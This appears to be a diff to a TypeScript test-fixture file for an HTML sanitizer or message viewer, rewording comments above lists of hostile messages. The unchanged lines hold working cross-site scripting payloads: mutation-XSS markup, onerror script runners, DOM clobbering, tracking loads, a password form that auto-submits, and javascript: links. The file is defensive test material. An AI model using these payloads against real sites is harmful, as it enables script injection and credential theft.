@@ -1,17 +1,17 @@
-/** A message that attacks whoever shows it. `host` is one where nobody may ever come. */
+/** A message that attacks its viewer. `host` must never receive a request. */
 export interface Attack {
   readonly name: string
   readonly html: (host: string) => string
 }
 
-/** Messages by their names. */
+/** Attacks by name. */
 const attacksOf = (messages: (host: string) => Readonly<Record<string, string>>): readonly Attack[] =>
   Object.keys(messages('')).map((name) => ({ name, html: (host) => messages(host)[name] ?? '' }))
 
-// Whatever runs leaves a mark that the cases look for: in its own frame first, which it may write to whatever its origin is.
+// A running script leaves a mark for the cases to find, first in its own frame, where it may always write.
 const run = "self.owned=1;top.owned=1;parent.document.title='owned';document.title='owned'"
 
-/** Messages that load or run something by themselves: the tracking and script vectors. */
+/** Messages that load or run something by themselves: tracking and scripts. */
 export const loadingAttacks = attacksOf((host) => ({
   // Pictures.
   'img src': `<img src="${host}/1.png">`,
@@ -68,7 +68,7 @@ export const loadingAttacks = attacksOf((host) => ({
   'ping and manifest': `<a href="https://a.example/" ping="${host}/41">x</a><link rel="manifest" href="${host}/41.json">`
 }))
 
-/** Markup that becomes another when it is read a second time. */
+/** Markup that changes when it is parsed a second time. */
 export const mutatingAttacks = attacksOf(() => ({
   'mglyph in a table': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;"></table></mtext></math>`,
   'style in a form in math': `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${run}"></style></mglyph></form></mtext></math>`,
@@ -85,7 +85,7 @@ export const mutatingAttacks = attacksOf(() => ({
   'clobbered names': `<form id="x"><input name="attributes"><input name="parentNode"><img name="body" src=x onerror="${run}"></form><a id="document">x</a>`
 }))
 
-/** Messages that want to be typed into, clicked on, or to lie over everything else. */
+/** Messages that invite typing or clicks, or cover everything else. */
 export const reachingAttacks = attacksOf((host) => ({
   'a form that asks for a password': `<form action="${host}/50" method="post"><input name="p" type="password" autofocus onfocus="this.form.submit()"><button formaction="${host}/50b">Sign in</button></form>`,
   autofocus:
@@ -98,7 +98,7 @@ export const reachingAttacks = attacksOf((host) => ({
   'names that every object has': `<p constructor="${host}/53" __proto__="${host}/53" tostring="${host}/53">x</p><constructor src="${host}/53">x</constructor><__proto__ href="${host}/53">x</__proto__>`
 }))
 
-/** A link, and what is said of it; one without a refusal may be opened after a question. `host` is as for attacks. */
+/** A link with its expected question or refusal. `host` is the same as for attacks. */
 export interface LinkCase {
   readonly name: string
   readonly href: (host: string) => string
@@ -109,7 +109,7 @@ export interface LinkCase {
 
 const encrypted = (host: string): string => host.replace('http:', 'https:')
 
-/** Links that pretend, or reach where nothing may be opened. */
+/** Links that pretend to lead elsewhere, or lead to forbidden addresses. */
 export const linkCases: readonly LinkCase[] = [
   { name: 'javascript:', href: () => 'javascript:alert(document.domain)', refusal: 'it runs a program' },
   { name: 'javascript: with a line break', href: () => 'java&#10;script:alert(1)', refusal: 'it runs a program' },
